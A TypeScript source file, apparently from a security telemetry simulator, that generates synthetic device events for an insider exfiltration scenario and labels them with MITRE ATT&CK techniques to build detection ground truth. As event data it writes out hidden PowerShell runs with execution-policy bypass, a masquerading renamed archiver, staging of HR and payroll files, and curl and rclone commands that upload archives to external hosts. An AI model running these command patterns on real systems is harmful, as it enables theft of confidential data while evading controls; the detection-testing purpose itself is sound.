// The insider's actions as small steps over a device context. Every step records the events
// that prove its techniques in the EvidenceLog; truth.json is built from nothing else.
import { binary, knownBinaries } from '../catalog.js';
import type { DeviceCtx, Session } from '../device.js';
import type { EvidenceRef, Proc } from '../emit.js';
import { startSession } from '../benign.js';
import { ipFor, web, type Dest } from '../net.js';
import { MINUTE, SECOND } from '../time.js';
import type { EvidenceLog } from '../truth.js';
import { DESTINATIONS, TOOLS, type Variant } from './variant.js';

export interface Round {
  readonly archiveAt: number;
  readonly uploadAt: number | null;
}

interface RoundState {
  readonly ctx: DeviceCtx;
  readonly v: Variant;
  readonly log: EvidenceLog;
  readonly archives: string[];
  installed: boolean;
}

function note(log: EvidenceLog, ids: readonly string[], ref: EvidenceRef, text: string): void {
  for (const id of ids) log.add(id, { ...ref, note: text });
}

function sessionFor(ctx: DeviceCtx, from: number, to: number): Session {
  const s = ctx.sessionAt(from);
  if (s !== undefined && s.end >= to) return s;
  // Out of hours: the insider logs on (remotely) to do it.
  return startSession(ctx, from - 3 * MINUTE, to + 10 * MINUTE, 'RemoteInteractive');
}

/** One run of the collection script: install tool, collect, stage, archive, maybe transfer. */
export function runRound(st: RoundState, r: Round, roundNo: number): void {
  const { ctx, v, log } = st;
  const { rng } = ctx;
  const tool = TOOLS[v.tool];
  const start = r.archiveAt - 80 * SECOND - rng.int(0, 10 * SECOND);
  const session = sessionFor(ctx, start, Math.max(r.archiveAt, r.uploadAt ?? 0) + MINUTE);
  const cmd = ctx.proc(
    session.explorer,
    'cmd.exe',
    `"C:\\Windows\\system32\\cmd.exe" /c powershell.exe -ExecutionPolicy Bypass -File ${v.scriptPath}`,
    start - 2 * SECOND,
  );
  const psSpawn = ctx.spawn(
    cmd,
    'powershell.exe',
    `powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File ${v.scriptPath}`,
    start,
  );
  const ps = psSpawn.proc;
  note(
    log,
    ['T1059.001'],
    psSpawn.ref,
    `powershell.exe ran ${v.scriptPath} with -ExecutionPolicy Bypass -WindowStyle Hidden`,
  );
  let t = ctx.after(start, 2);
  if (roundNo === 0) {
    note(log, ['T1059.001'], ctx.psCommand(t, ps, 'Invoke-WebRequest'), 'PowerShell command Invoke-WebRequest');
  }
  // Ingress tool transfer: the archiver installer, downloaded and run silently.
  if (tool.installer !== null) {
    const inst = tool.installer;
    const dl = `C:\\ProgramData\\${inst.file}`;
    t = ctx.after(t, 1);
    note(log, ['T1105'], ctx.netRef(t, ps, web(inst.host)), `powershell.exe connected to ${inst.host}:443`);
    t = ctx.after(t, 2);
    const bin = binary(inst.file);
    note(
      log,
      ['T1105'],
      ctx.fileRef(t, ps, 'FileCreated', dl, {
        sha1: bin.sha1,
        sha256: bin.sha256,
        md5: bin.md5,
        size: bin.size,
        originUrl: inst.url,
        originIp: web(inst.host).ip,
      }),
      `powershell.exe downloaded ${dl} from ${inst.url}`,
    );
    t = ctx.after(t, 1);
    const setup = ctx.spawn(ps, inst.file, `"${dl}" /S`, t, { folderPath: dl });
    note(log, ['T1105'], setup.ref, `${inst.file} /S (silent install)`);
    const installDir = binary(tool.binary ?? inst.file).dir;
    for (const f of inst.installs) {
      const b = knownBinaries().includes(f) ? binary(f) : null;
      ctx.file(
        ctx.after(t, 1),
        setup.proc,
        'FileCreated',
        `${installDir}\\${f}`,
        b === null ? {} : { sha1: b.sha1, sha256: b.sha256, md5: b.md5, size: b.size },
      );
    }
    ctx.registry(
      ctx.after(t, 2),
      setup.proc,
      'RegistryKeyCreated',
      `HKEY_LOCAL_MACHINE\\SOFTWARE\\${v.tool === '7zip' ? '7-Zip' : 'WinRAR'}`,
      '',
      '',
      '',
    );
    t = ctx.after(t, 4);
  }
  // Renamed copy of the archiver (masquerading).
  let exePath = tool.binary === null ? '' : `${binary(tool.binary).dir}\\${tool.binary}`;
  if (tool.binary !== null && v.renamedTo !== null) {
    const b = binary(tool.binary);
    exePath = `C:\\ProgramData\\${v.renamedTo}`;
    t = ctx.after(t, 1);
    note(
      log,
      ['T1036.003'],
      ctx.fileRef(t, ps, 'FileCreated', exePath, { sha1: b.sha1, sha256: b.sha256, md5: b.md5, size: b.size }),
      `${tool.binary} copied as ${exePath}`,
    );
  }
  // Automated collection into the staging folder.
  t = ctx.after(t, 1);
  note(log, ['T1119'], ctx.psCommand(t, ps, 'Copy-Item'), 'PowerShell command Copy-Item');
  const n = rng.int(6, 14);
  const sources = collectionSources(ctx);
  for (let i = 0; i < n; i++) {
    const src = rng.pick(sources);
    const name = `${src.prefix}${rng.int(1, 400)}.${src.ext}`;
    t = ctx.after(t, 0);
    const sha1 = rng.hex(20);
    if (src.label !== undefined) {
      const read = ctx.deviceEvent(
        t,
        ps,
        'SensitiveFileRead',
        {
          FileName: name,
          FolderPath: `${src.dir}\\${name}`,
          SHA1: sha1,
          AdditionalFields: JSON.stringify({ SensitivityLabel: src.label }),
        },
        true,
      );
      note(log, ['T1119'], read, `read ${src.dir}\\${name} (label ${src.label})`);
    }
    t = ctx.after(t, 0);
    const copy = ctx.fileRef(t, ps, 'FileCreated', `${v.stagingDir}\\${name}`, { sha1, label: src.label });
    note(log, ['T1119', 'T1074.001'], copy, `copied ${src.dir}\\${name} to ${v.stagingDir}`);
  }
  // The employee-data export of the seed script.
  const csvPath = `${v.stagingDir}\\employee-data-temp${rng.int(10_000, 99_999)}.csv`;
  note(
    log,
    ['T1119', 'T1074.001'],
    ctx.fileRef(ctx.after(t, 1), ps, 'FileCreated', csvPath, { size: rng.int(40_000, 900_000) }),
    `powershell.exe wrote ${csvPath}`,
  );
  // Archive, at exactly archiveAt.
  const archive = `${v.stagingDir}\\${v.archiveBase}${roundNo === 0 ? '' : `-${roundNo + 1}`}.${tool.ext}`;
  st.archives.push(archive);
  let archiver: Proc = ps;
  const archiveCmd = tool.command(exePath, archive, v.stagingDir);
  if (tool.binary === null) {
    note(
      log,
      ['T1560.001'],
      ctx.psCommand(r.archiveAt - 2 * SECOND, ps, 'Compress-Archive'),
      'PowerShell command Compress-Archive',
    );
  } else {
    if (v.tool === 'makecab')
      ctx.file(r.archiveAt - 4 * SECOND, ps, 'FileCreated', `${v.stagingDir}\\files.ddf`, { size: 900 });
    const sp = ctx.spawn(ps, tool.binary, archiveCmd, r.archiveAt - 2 * SECOND - rng.int(0, SECOND), {
      ...(v.renamedTo !== null ? { renamedTo: v.renamedTo, folderPath: exePath } : {}),
    });
    archiver = sp.proc;
    note(log, ['T1560.001'], sp.ref, archiveCmd);
    if (v.renamedTo !== null)
      note(log, ['T1036.003'], sp.ref, `${v.renamedTo} is ${tool.binary} (ProcessVersionInfoOriginalFileName)`);
  }
  note(
    log,
    ['T1560.001', 'T1074.001'],
    ctx.fileRef(r.archiveAt, archiver, 'FileCreated', archive, { size: rng.int(2_000_000, 400_000_000) }),
    `${archiver.bin.fileName} created ${archive}`,
  );
  if (r.uploadAt !== null) transfer(st, r.uploadAt, ps, session, archive);
}

function collectionSources(ctx: DeviceCtx): { dir: string; prefix: string; ext: string; label?: string }[] {
  const home = ctx.dev.user.home;
  return [
    { dir: '\\\\fs01.corp.contoso.com\\HR\\Employees', prefix: 'employee_record_', ext: 'xlsx', label: 'Confidential' },
    {
      dir: '\\\\fs01.corp.contoso.com\\HR\\Payroll',
      prefix: 'payroll_2025_',
      ext: 'csv',
      label: 'Highly Confidential',
    },
    { dir: `${home}\\Documents\\Proprietary`, prefix: 'design_spec_', ext: 'docx' },
    { dir: `${home}\\OneDrive - Contoso\\R&D`, prefix: 'formula_', ext: 'pdf', label: 'Confidential' },
    { dir: `${home}\\Documents\\Customers`, prefix: 'customer_list_', ext: 'xlsx' },
  ];
}

function transfer(st: RoundState, at: number, scriptPs: Proc, session: Session, archive: string): void {
  const { ctx, v, log } = st;
  const spec = DESTINATIONS[v.destination];
  const file = archive.slice(archive.lastIndexOf('\\') + 1);
  const url = v.host === '' ? '' : `https://${v.host}${v.urlPath}`;
  const dest: Dest =
    v.remoteIp !== null
      ? { url: '', ip: v.remoteIp, port: spec.port, protocol: 'Tcp', internal: false }
      : { url: v.host, ip: ipFor(v.host), port: spec.port, protocol: 'Tcp', internal: false };
  let actor: Proc;
  const sameScript = at - scriptPs.created < 10 * MINUTE;
  const ps = sameScript
    ? scriptPs
    : ctx.proc(
        session.explorer,
        'powershell.exe',
        `powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File ${v.scriptPath} -Upload`,
        at - 20 * SECOND,
      );
  if (spec.uploader === 'powershell') {
    actor = ps;
    const m = v.destination === 'azure-blob' ? 'Invoke-WebRequest' : 'Invoke-RestMethod';
    note(log, ['T1059.001'], ctx.psCommand(at - SECOND, ps, m), `PowerShell command ${m} (upload)`);
  } else if (spec.uploader === 'curl') {
    const c = ctx.spawn(ps, 'curl.exe', `curl.exe -s -T "${archive}" "${url}"`, at - SECOND);
    actor = c.proc;
    note(log, spec.techniques, c.ref, `curl.exe -T ${file}`);
  } else if (spec.uploader === 'rclone') {
    const zipUrl = 'https://downloads.rclone.org/v1.71.2/rclone-v1.71.2-windows-amd64.zip';
    note(
      log,
      ['T1105'],
      ctx.netRef(at - 40 * SECOND, ps, web('downloads.rclone.org')),
      'powershell.exe connected to downloads.rclone.org',
    );
    const rc = binary('rclone.exe');
    const rcPath = `${v.stagingDir}\\rclone.exe`;
    note(
      log,
      ['T1105'],
      ctx.fileRef(at - 30 * SECOND, ps, 'FileCreated', rcPath, {
        sha1: rc.sha1,
        sha256: rc.sha256,
        md5: rc.md5,
        size: rc.size,
        originUrl: zipUrl,
      }),
      `rclone.exe extracted to ${rcPath}`,
    );
    const remote = v.destination === 'rclone-ftp' ? 'ftp' : 'sftp';
    const c = ctx.spawn(
      ps,
      'rclone.exe',
      `"${rcPath}" copy "${archive}" ${remote}remote:/incoming --${remote}-host ${dest.ip} --no-check-certificate`,
      at - SECOND,
      { folderPath: rcPath },
    );
    actor = c.proc;
    note(log, spec.techniques, c.ref, `rclone.exe copy to ${remote}://${dest.ip}`);
  } else {
    const edge = ctx.spawn(
      session.explorer,
      'msedge.exe',
      `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" https://${v.host}/`,
      at - 90 * SECOND,
    );
    actor = edge.proc;
    ctx.deviceEvent(at - 89 * SECOND, session.explorer, 'BrowserLaunchedToOpenUrl', {
      RemoteUrl: `https://${v.host}/`,
    });
  }
  const what = `${actor.bin.fileName} -> ${dest.url === '' ? dest.ip : dest.url}:${dest.port}`;
  switch (v.outcome) {
    case 'success':
      note(
        log,
        spec.techniques,
        ctx.netRef(at, actor, dest, 'ConnectionSuccess'),
        `${what} ConnectionSuccess (upload of ${file})`,
      );
      break;
    case 'failed':
      for (let i = 0; i < 3; i++)
        note(
          log,
          spec.techniques,
          ctx.netRef(at + i * 3 * SECOND + i, actor, dest, 'ConnectionFailed'),
          `${what} ConnectionFailed`,
        );
      break;
    case 'blocked-network-protection':
      note(
        log,
        spec.techniques,
        ctx.deviceEvent(
          at,
          actor,
          'ExploitGuardNetworkProtectionBlocked',
          {
            RemoteUrl: dest.url === '' ? dest.ip : dest.url,
            RemoteIP: dest.ip,
            RemotePort: dest.port,
            AdditionalFields: JSON.stringify({
              ResponseCategory: 'CustomBlockList',
              DisplayName: 'Block personal cloud storage',
              IsAudit: false,
            }),
          },
          true,
        ),
        `${what} blocked by network protection`,
      );
      break;
    case 'blocked-smartscreen':
      note(
        log,
        spec.techniques,
        ctx.deviceEvent(
          at,
          actor,
          'SmartScreenUrlWarning',
          {
            RemoteUrl: `https://${v.host}${v.urlPath}`,
            AdditionalFields: JSON.stringify({ Experience: 'CustomBlockList' }),
          },
          true,
        ),
        `${what} blocked by SmartScreen`,
      );
      break;
    case 'none':
      break;
  }
}

export type { RoundState };
